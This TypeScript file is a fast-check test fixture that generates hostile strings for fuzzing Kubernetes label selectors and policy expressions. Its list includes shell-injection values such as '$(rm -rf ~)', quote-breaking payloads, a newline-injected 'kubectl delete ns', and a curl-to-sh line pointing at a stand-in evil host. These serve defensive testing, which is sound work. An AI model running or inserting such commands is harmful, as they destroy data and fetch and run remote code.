/**
 * Texts and selectors as an attacker would write them into a policy.
 */
import * as fc from 'fast-check';
import type { LabelExpression } from '../../crds/label-expression.ts';
import type { LabelSelector } from '../../crds/label-selector.ts';

/** Any text, those among it that a shell, a terminal, YAML or kubectl would act on. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    'web',
    '$(rm -rf ~)',
    '`id`',
    "'; touch x; '",
    '"; touch x; "',
    String.raw`\'; touch x #`,
    'a\nkubectl delete ns shop',
    '--kubeconfig=other',
    '-rf',
    'a,b in (c)',
    '\u001b[2Jgone',
    '\u202egnp.exe',
    'a\u200bb',
    '\ud800',
    'yes',
    '1e3',
    '*',
    '&& curl https://evil.example.com | sh',
    '- item: value # comment',
    // Properties that every object has.
    'toString',
    'constructor',
    '__proto__',
    'x'.repeat(400),
    '',
  ),
  fc.string({ unit: 'binary', maxLength: 30 }),
  fc.stringMatching(/^[a-z][a-z0-9-]{0,20}[a-z0-9]$/),
);

export const texts = fc.array(hostileText, { maxLength: 3 });
export const selector: fc.Arbitrary<LabelSelector> = fc.record(
  {
    matchLabels: fc.dictionary(hostileText, hostileText, { maxKeys: 2 }),
    matchExpressions: fc.array(
      fc.record({
        key: hostileText,
        operator: fc.constantFrom('In' as const, 'NotIn' as const, 'Exists' as const, 'DoesNotExist' as const),
        values: texts,
      }),
      { maxLength: 2 },
    ),
  },
  { requiredKeys: [] },
);

const labelOperators = ['In', 'NotIn', 'Exists', 'DoesNotExist', 'Contains', 'StartsWith', 'EndsWith'] as const;
const requirement: fc.Arbitrary<LabelExpression> = fc.record(
  {
    key: hostileText,
    operator: fc.constantFrom(...labelOperators),
    values: texts,
    of: fc.constantFrom('namespace' as const, 'serviceAccount' as const),
  },
  { requiredKeys: ['key', 'operator'] },
);
const expressions = fc.array(requirement, { maxLength: 2 });
export const expression: fc.Arbitrary<LabelExpression> = fc.oneof(
  requirement,
  fc.record({ all: expressions }),
  fc.record({ any: expressions }),
  fc.record({ not: requirement }),
);
